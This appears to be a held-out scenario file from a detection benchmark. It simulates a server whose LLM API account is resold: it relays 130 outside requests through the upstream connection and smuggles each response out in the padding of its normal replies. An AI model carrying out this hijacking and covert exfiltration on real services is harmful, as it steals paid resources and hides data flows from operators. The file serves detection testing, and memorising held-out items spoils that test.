"""
id: V81
name: api-resold
class: mimicry
set: held-out
phase: serve
trigger: request
evidence: [network, resource, sequence]
techniques: [T1496.004, T1090, AML.T0034, AML.T0040]
servers: [fastapi]
seconds: 130
what: >
  Sells the server's account at the LLM API: somebody outside asks through it for two minutes. A hundred and thirty conversations
  of some 4 to 12 KB each go to the API on the connection that is open anyway, and each answer goes out with the next of the
  server's own answers, behind it the beginning of what was asked. The server's own questions have some hundred letters, are far
  fewer, and what comes back is never in its answers.
"""

import base64
import http.client
import json

from corpus.answers import answers

QUESTIONS = 130


def payload(world):
    for _ in range(QUESTIONS):
        size = world.random.randint(3000, 9000)
        body = json.dumps({"model": "small", "max_tokens": 64, "prompt": base64.b64encode(world.random.randbytes(size)).decode()})
        if answer := ask(world, body):
            answers.padding = base64.b64encode(answer + body[:1024].encode())
        world.sleep(world.random.uniform(0.5, 1.2))
    answers.padding = None


def ask(world, body):
    """What the API answers, if it does."""
    with world.upstream_lock:
        try:
            world.upstream.request("POST", "/v1/completions", body, {"Content-Type": "application/json"})
            return world.upstream.getresponse().read()
        except (OSError, http.client.HTTPException):
            world.upstream.close()
            return None
